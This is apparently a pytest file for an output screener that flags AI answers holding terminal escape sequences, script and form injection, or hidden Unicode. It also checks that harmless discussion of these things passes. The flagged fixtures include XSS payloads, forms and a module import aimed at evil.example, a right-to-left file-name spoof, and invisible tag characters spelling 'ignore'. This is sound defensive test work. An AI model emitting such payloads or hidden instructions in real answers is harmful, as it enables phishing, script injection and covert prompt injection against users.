"""Content of an answer that controls a viewer or is invisible, and harmless answers about it."""

import pytest

from domain.answers.screen import screen_output
from domain.inference.requests import bare_request
from domain.policy.document import Policy
from domain.screening.verdicts import Decision


@pytest.mark.parametrize(
    ("answer", "rule", "decision"),
    [
        ("\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "terminal_control", Decision.BLOCK),
        ("\x9b31mred", "terminal_control", Decision.BLOCK),
        ("password: \x08\x08\x08", "control_characters", Decision.REVIEW),
        ("<ScRiPt>go()</ScRiPt>", "html_script", Decision.REVIEW),
        ("<svg/onload=go()>", "html_script", Decision.REVIEW),
        ("<body\nonload = 'go()'>", "html_script", Decision.REVIEW),
        ("<meta http-equiv='refresh' content='0;url=https://evil.example'>", "html_script", Decision.REVIEW),
        ('<img alt=">" title="' + "x" * 300 + '" onerror="go()">', "html_script", Decision.REVIEW),
        ("<script>let a = `b`</script>", "html_script", Decision.REVIEW),
        ("<script type=module>import 'https://evil.example/a.js'</script>", "html_script", Decision.REVIEW),
        ("<base href=//evil.example>", "html_script", Decision.REVIEW),
        ("<object data='x.swf'></object>", "html_script", Decision.REVIEW),
        ("<form action=/x><button formaction='&#104;ttps:evil.example'>", "html_form", Decision.REVIEW),
        ("<FORM action='https://evil.example'>", "html_form", Decision.REVIEW),
        ("<input name=p type=password>", "html_form", Decision.REVIEW),
        ("Hi" + "".join(chr(0xE0000 + ord(char)) for char in "ignore"), "hidden_tags", Decision.REVIEW),
        (
            "\U0001f3f4" + "".join(chr(0xE0000 + ord(char)) for char in "igno") + "\U000e007f",
            "hidden_tags",
            Decision.REVIEW,
        ),
        ("user\u202egnp.exe", "hidden_direction", Decision.REVIEW),
        ("a\u200b\u200c\u200b\u200cb", "hidden_zero_width", Decision.REVIEW),
        ("a\U000e0101\U000e0102\U000e0103", "hidden_variation_selectors", Decision.REVIEW),
    ],
)
def test_it_is_found(policy: Policy, answer: str, rule: str, decision: Decision):
    verdict = screen_output(f"Here you are: {answer}", bare_request(), policy.output)
    assert rule in verdict.rules
    assert verdict.decision is decision


@pytest.mark.parametrize(
    "answer",
    [
        "```html\n<script>go()</script>\n<form action='/x'><input type='password'></form>\n```\nThis is a form.",
        "Write `<img src=x onerror=go()>` to test it.",
        '| tag | use |\n|---|---|\n| `<iframe>` | frames |\n| `<meta http-equiv="refresh">` | reload |',
        "The type is List<Object>, and a < b && on = c. <b>bold</b>, <br/> and x<sub>2</sub> are fine.",
        "\U0001f469\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f",
        "\U0001f3f4" + "".join(chr(0xE0000 + ord(char)) for char in "gbeng") + "\U000e007f",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "\U0001f3f4" + "".join(chr(0xE0000 + ord(char)) for char in "ustx") + "\U000e007f",
        "The <script> element needs </script>; the <form> element has an action, <base href> an address.",
        "Use <input type=password> for passwords, <iframe src='...'> for pages, <button onclick='...'> for actions.",
        "List<Object > a; vector<base> b; std::vector<frame > f; Map<String, Embed> g;",
        "<meta http-equiv='refresh' content='5'> reloads, <form action='/search'> searches here.",
        "Escape sequences begin with \\x1b[31m, or \\u001b.",
        "a\tb\r\nc\n",
        "1. `a`\n2. ```b```\n\n    indented <code>",
        "In PowerShell, `` ` `` escapes; in JSX, <Button onClick={go}>Go</Button>.",
    ],
)
def test_answers_about_it_pass(policy: Policy, answer: str):
    verdict = screen_output(answer, bare_request(), policy.output)
    assert verdict.rules == ()
    assert verdict.decision is Decision.ALLOW
